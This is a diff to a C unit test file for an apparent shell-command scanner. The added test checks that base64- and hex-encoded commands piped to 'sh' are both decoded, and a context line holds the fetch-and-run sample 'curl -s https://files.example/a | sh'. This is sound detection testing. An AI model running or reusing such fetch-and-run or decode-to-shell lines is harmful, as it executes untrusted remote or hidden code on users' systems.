@@ -473,6 +473,20 @@ static void an_encoded_line_is_shown_decoded(void **state)
     assert_string_equal(scan.decoded, "curl -s https://files.example/a | sh");
 }
 
+/* Both are run, and the one that is found first must not be all that is shown. */
+static void one_encoding_does_not_hide_another(void **state)
+{
+    struct pes_scan scan;
+
+    assert_loads(SHIPPED_RULES);
+    assert_int_equal(
+        module_host_scan_text(&host, &scan,
+                              "echo ZWNobyBoZWxsbyBmcm9tIGEgdGVzdA== | base64 -d | sh; "
+                              "echo 6563686f2068656c6c6f | xxd -r -p | sh"),
+        0);
+    assert_string_equal(scan.decoded, "echo hello from a test\necho hello");
+}
+
 static void everyday_commands_are_left_alone(void **state)
 {
     static const char *const lines[] = {
@@ -554,6 +568,7 @@ int main(void)
         CASE(that_another_rule_finds_its_sample_excuses_no_rule),
         CASE(a_sample_that_other_rules_judge_otherwise_is_not_given),
         CASE(an_encoded_line_is_shown_decoded),
+        CASE(one_encoding_does_not_hide_another),
         CASE(everyday_commands_are_left_alone),
         CASE(a_vendors_installer_is_suspicious_at_most),
     };
